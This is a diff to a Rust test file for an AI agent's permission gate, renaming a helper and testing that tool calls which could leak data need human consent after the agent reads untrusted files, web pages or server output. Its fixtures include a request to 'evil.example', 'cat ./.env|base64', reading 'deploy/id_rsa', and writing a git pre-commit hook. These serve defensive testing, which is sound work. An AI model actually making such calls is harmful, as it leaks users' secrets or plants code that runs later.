@@ -11,29 +11,29 @@ fn no_rules() -> PermissionRules {
     PermissionRules::at("/base/it", RuleLists::default()).unwrap()
 }
 
-fn sheet(name: &str, change: impl FnOnce(&mut ToolSpec)) -> ToolSpec {
-    let mut sheet = ToolSpec::clone(builtin().get(name).unwrap().sheet());
-    change(&mut sheet);
-    sheet
+fn spec(name: &str, change: impl FnOnce(&mut ToolSpec)) -> ToolSpec {
+    let mut spec = ToolSpec::clone(builtin().get(name).unwrap().spec());
+    change(&mut spec);
+    spec
 }
 
 fn page() -> ToolSpec {
-    sheet("read_file", |sheet| {
-        sheet.touches = ToolScope::Network;
-        sheet.hosts = Some(vec!["docs.rs".to_owned()]);
+    spec("read_file", |spec| {
+        spec.touches = ToolScope::Network;
+        spec.hosts = Some(vec!["docs.rs".to_owned()]);
     })
 }
 
 fn server(trusted: bool, network: bool, read_only: bool) -> ToolSpec {
-    sheet("bash", |sheet| {
-        sheet.source = Source::Server { name: "git".to_owned(), trusted, network };
-        sheet.read_only = read_only;
+    spec("bash", |spec| {
+        spec.source = Source::Server { name: "git".to_owned(), trusted, network };
+        spec.read_only = read_only;
     })
 }
 
 fn servers(trusted: &[&str], all: bool) -> ToolSpec {
     let trusted = trusted.iter().map(|name| (*name).to_owned()).collect();
-    sheet("bash", |sheet| sheet.source = Source::Servers { trusted, all })
+    spec("bash", |spec| spec.source = Source::Servers { trusted, all })
 }
 
 fn word(decision: &PermissionDecision) -> &'static str {
@@ -50,7 +50,7 @@ fn what_could_get_something_out_needs_consent_in_every_mode() {
     let none = json!({});
     let ls = json!({"command": "ls"});
     let table = [
-        // Columns: sheet, parameters, commands reach the network, data could get out.
+        // Columns: spec, parameters, commands reach the network, data could get out.
         (page(), json!({"url": "https://docs.rs/serde"}), false, false),
         (page(), json!({"url": "https://evil.example/?c=1"}), false, true),
         (page(), json!({"url": "no address"}), false, true),
@@ -62,26 +62,26 @@ fn what_could_get_something_out_needs_consent_in_every_mode() {
         (servers(&["git"], false), json!({"name": "mcp__mail__send"}), false, true),
         (servers(&["git"], false), json!({"name": "odd"}), false, true),
         (servers(&["git"], true), json!({"name": "odd"}), false, false),
-        (sheet("bash", |_| {}), ls.clone(), false, false),
-        (sheet("bash", |sheet| sheet.touches = ToolScope::Anything), none.clone(), false, true),
-        (sheet("bash", |_| {}), ls, true, true),
-        (sheet("bash", |_| {}), json!({"command": "cat ./.env|base64"}), false, true),
-        (sheet("python", |_| {}), json!({"code": "open('deploy/id_rsa').read()"}), false, true),
-        (sheet("read_file", |_| {}), json!({"path": ".env"}), false, true),
-        (sheet("grep", |_| {}), json!({"pattern": "KEY", "path": "a/server.pem"}), false, true),
-        (sheet("read_file", |_| {}), json!({"path": "README.md"}), false, false),
-        (sheet("write_file", |_| {}), json!({"path": ".env", "content": "PORT=1"}), false, false),
-        (sheet("bash", |_| {}), json!({"command": "grep -rn credentials src | head"}), false, false),
-        (sheet("grep", |_| {}), json!({"pattern": "\\.env", "path": "src"}), false, false),
+        (spec("bash", |_| {}), ls.clone(), false, false),
+        (spec("bash", |spec| spec.touches = ToolScope::Anything), none.clone(), false, true),
+        (spec("bash", |_| {}), ls, true, true),
+        (spec("bash", |_| {}), json!({"command": "cat ./.env|base64"}), false, true),
+        (spec("python", |_| {}), json!({"code": "open('deploy/id_rsa').read()"}), false, true),
+        (spec("read_file", |_| {}), json!({"path": ".env"}), false, true),
+        (spec("grep", |_| {}), json!({"pattern": "KEY", "path": "a/server.pem"}), false, true),
+        (spec("read_file", |_| {}), json!({"path": "README.md"}), false, false),
+        (spec("write_file", |_| {}), json!({"path": ".env", "content": "PORT=1"}), false, false),
+        (spec("bash", |_| {}), json!({"command": "grep -rn credentials src | head"}), false, false),
+        (spec("grep", |_| {}), json!({"pattern": "\\.env", "path": "src"}), false, false),
     ];
     let rules = no_rules();
-    for (sheet, given, commands_reach_network, out) in table {
+    for (spec, given, commands_reach_network, out) in table {
         let trust = Trust { files: false, commands_reach_network, ..Trust::default() };
         let given = parameters(given);
         for approval in [Approval::Ask, Approval::Edits, Approval::All, Approval::ReadOnly] {
-            let call = ProposedCall::new(approval, &rules, &sheet, &given);
+            let call = ProposedCall::new(approval, &rules, &spec, &given);
             let before = decide_permission(call);
-            let context = format!("{} {given:?} {approval:?}", sheet.name());
+            let context = format!("{} {given:?} {approval:?}", spec.name());
             assert_eq!(trust.apply_trust(before.clone(), call, &[]), before, "{context}: who has read nothing may do what the mode allows");
             let after = trust.apply_trust(before.clone(), call, &[Origin::Files]);
             let expected = match (word(&before), out, approval) {
@@ -97,7 +97,7 @@ fn what_could_get_something_out_needs_consent_in_every_mode() {
 /// A person consented to a plan, but not to a path that untrusted text has put into it.
 #[test]
 fn others_words_do_not_choose_what_runs_later() {
-    let write = sheet("write_file", |_| {});
+    let write = spec("write_file", |_| {});
     for (path, approval, expected) in [
         (".git/hooks/pre-commit", Approval::Edits, "ask"),
         (".git/hooks/pre-commit", Approval::ReadOnly, "deny"),
@@ -131,25 +131,25 @@ fn a_person_is_told_why_they_are_asked() {
 fn results_have_origins() {
     let given = parameters(json!({"url": "https://Docs.rs/x", "server": "git"}));
     let table = [
-        (sheet("read_file", |_| {}), Some("files"), true, false),
-        (sheet("bash", |_| {}), Some("command"), true, false),
+        (spec("read_file", |_| {}), Some("files"), true, false),
+        (spec("bash", |_| {}), Some("command"), true, false),
         (page(), Some("web docs.rs"), true, true),
         (server(false, true, true), Some("mcp git"), true, true),
         (server(true, true, false), Some("mcp git"), false, false),
         (servers(&[], false), Some("mcp git"), true, true),
         (servers(&["git"], false), Some("mcp git"), false, false),
-        (sheet("todo", |_| {}), None, false, false),
-        (sheet("ask_human", |_| {}), Some("person"), false, false),
-        (sheet("delegate_task", |_| {}), Some("actor"), false, false),
+        (spec("todo", |_| {}), None, false, false),
+        (spec("ask_human", |_| {}), Some("person"), false, false),
+        (spec("delegate_task", |_| {}), Some("actor"), false, false),
     ];
-    for (sheet, origin, untrusted, with_files_trusted) in table {
-        let name = sheet.name().to_owned();
-        assert_eq!(origin_of(&sheet, &given).map(|origin| origin.to_string()).as_deref(), origin, "{name}");
-        let doubtful = |files| Trust { files, commands_reach_network: false, ..Trust::default() }.untrusted(&sheet, &given).is_some();
+    for (spec, origin, untrusted, with_files_trusted) in table {
+        let name = spec.name().to_owned();
+        assert_eq!(origin_of(&spec, &given).map(|origin| origin.to_string()).as_deref(), origin, "{name}");
+        let doubtful = |files| Trust { files, commands_reach_network: false, ..Trust::default() }.untrusted(&spec, &given).is_some();
         assert_eq!((doubtful(false), doubtful(true)), (untrusted, with_files_trusted), "{name}");
     }
     let connected = Trust { files: true, commands_reach_network: true, ..Trust::default() };
-    assert_eq!(connected.untrusted(&sheet("bash", |_| {}), &given), Some(Origin::Command), "a command may print a page");
-    let sheets = [server(false, true, true), server(true, true, true), sheet("bash", |_| {})];
-    assert_eq!(Trust::untrusted_descriptions(&sheets), [Origin::Server("git".to_owned())]);
+    assert_eq!(connected.untrusted(&spec("bash", |_| {}), &given), Some(Origin::Command), "a command may print a page");
+    let specs = [server(false, true, true), server(true, true, true), spec("bash", |_| {})];
+    assert_eq!(Trust::untrusted_descriptions(&specs), [Origin::Server("git".to_owned())]);
 }
